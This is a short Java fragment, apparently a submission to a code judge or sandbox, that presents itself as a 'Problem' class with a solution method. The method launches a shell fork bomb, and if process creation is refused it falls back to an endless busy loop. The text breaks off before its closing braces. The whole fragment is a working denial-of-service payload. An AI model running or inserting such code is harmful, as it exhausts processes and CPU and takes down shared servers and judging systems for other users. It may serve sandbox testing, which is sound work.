// A bomb of shells that goes on where one is refused.
class Problem {
    public static long f(long x) {
        try {
            new ProcessBuilder("/bin/sh", "-c", "f() { while :; do f & done; }; f").start().waitFor();
        } catch (Throwable refused) {
            System.err.println(refused);
        }
        while (true) {
            Thread.yield();
        }
